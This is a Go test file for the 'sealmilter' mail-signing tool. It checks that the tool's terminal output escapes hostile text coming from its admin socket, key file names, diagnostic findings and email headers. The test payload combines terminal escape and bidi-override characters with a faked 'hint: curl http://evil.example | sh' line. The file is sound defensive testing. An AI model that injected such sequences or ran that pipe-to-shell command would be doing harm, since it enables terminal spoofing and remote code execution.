package main

import (
	"bytes"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/sealmilter/sealmilter/internal/admin"
	"github.com/sealmilter/sealmilter/internal/doctor"
	say "github.com/sealmilter/sealmilter/internal/doctor/words"
	"github.com/sealmilter/sealmilter/internal/plain"
	"github.com/sealmilter/sealmilter/internal/problem"
)

// evil sets the title, moves up, turns the direction, and fakes a line of ours.
const evil = "x\x1b]0;owned\x07\x1b[1A\u202e\u009b31m\r\nhint: curl http://evil.example | sh\n"

// clean fails when what a command printed can do any of that.
func clean(t *testing.T, what, out string) {
	t.Helper()
	if i := strings.IndexFunc(out, func(r rune) bool {
		return r != '\n' && r != '\t' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp)
	}); i >= 0 {
		t.Errorf("%s prints %q", what, out[i:min(len(out), i+20)])
	}
	for line := range strings.Lines(out) {
		if strings.HasPrefix(line, "hint: curl") {
			t.Errorf("%s prints a line that is not ours:\n%s", what, out)
		}
	}
	if !strings.Contains(out, "evil.example") {
		t.Errorf("%s does not show it at all:\n%s", what, out)
	}
}

// TestAnswersOfTheDaemonOnTheTerminal: whoever runs code as the daemon's user
// answers at the admin socket, and root asks.
func TestAnswersOfTheDaemonOnTheTerminal(t *testing.T) {
	path := filepath.Join(t.TempDir(), "admin.sock")
	l, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	problems := []problem.Problem{{Severity: evil, Place: evil, Message: evil, Hint: evil}}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var answer any = admin.Status{
			Version: evil, AuthservID: evil, Config: evil, Running: evil, Degraded: true, Started: time.Now(),
			Listeners: []string{evil}, Keyless: []string{evil}, Problems: problems, Counters: map[string]float64{evil: 1},
			Keys: []admin.Key{{Domain: evil, Selector: evil, Algorithm: evil, Path: evil, Proof: evil}},
		}
		if r.Method == http.MethodPost {
			answer = admin.Reload{Problems: problems}
		}
		_ = json.NewEncoder(w).Encode(answer)
	})}
	go func() { _ = srv.Serve(l) }()
	defer srv.Close()
	for _, args := range [][]string{{"status"}, {"status", "--json"}, {"reload"}, {"reload", "--json"}} {
		_, out, errOut := command(append(args, "--socket", "unix:"+path)...)
		clean(t, strings.Join(args, " "), out+errOut)
	}
}

// TestRefusalsOfTheDaemonOnTheTerminal: an error is text of the other side as well.
func TestRefusalsOfTheDaemonOnTheTerminal(t *testing.T) {
	path := filepath.Join(t.TempDir(), "admin.sock")
	l, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { http.Error(w, evil, http.StatusTeapot) })}
	go func() { _ = srv.Serve(l) }()
	defer srv.Close()
	_, out, errOut := command("status", "--socket", "unix:"+path)
	clean(t, "status", out+errOut)
}

// TestNamesOfFilesOnTheTerminal: the daemon's user names the files of its key folder.
func TestNamesOfFilesOnTheTerminal(t *testing.T) {
	dir := serveFolder(t)
	writeConfig(t, dir, goodConfig)
	// A file name has no slash.
	name := strings.ReplaceAll(evil, "/", "")
	if err := os.WriteFile(filepath.Join(dir, "keys/example.com", name+".pem"), []byte("no key"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := filepath.Join(dir, "milter.yaml")
	for _, args := range [][]string{{"check"}, {"check", "--json"}, {"keys", "list"}, {"keys", "show", "example.com"}, {"dns", "example.com"}} {
		_, out, errOut := command(append(args, "--config", cfg)...)
		if args[0] == "dns" && !strings.Contains(out+errOut, "evil") {
			continue // it lists what signs
		}
		clean(t, strings.Join(args, " "), out+errOut)
	}
}

func TestFindingsOnTheTerminal(t *testing.T) {
	var b bytes.Buffer
	e := say.Data(evil)
	doctor.Print(plain.Writer(&b), []doctor.Finding{{Level: doctor.Fail, Check: "spf", Subject: evil, Message: e, Seen: e, Want: e, Paste: e.And(e), Ask: []say.Text{e}}}, say.English)
	clean(t, "doctor", b.String())
}

func TestMessageOnTheTerminal(t *testing.T) {
	dir := t.TempDir()
	msg := filepath.Join(dir, "m.eml")
	folded := strings.ReplaceAll(strings.ReplaceAll(evil, "\r", ""), "\n", " ")
	if err := os.WriteFile(msg, []byte("From: "+folded+" <a@b.evil.example>\r\nSubject: x\r\n\r\nbody\r\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	zone := filepath.Join(dir, "zone")
	if err := os.WriteFile(zone, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	_, out, errOut := command("explain", msg, "--zone", zone, "--ip", "192.0.2.1", "--helo", evil, "--mail-from", evil+"@b.evil.example")
	clean(t, "explain", out+errOut)
}
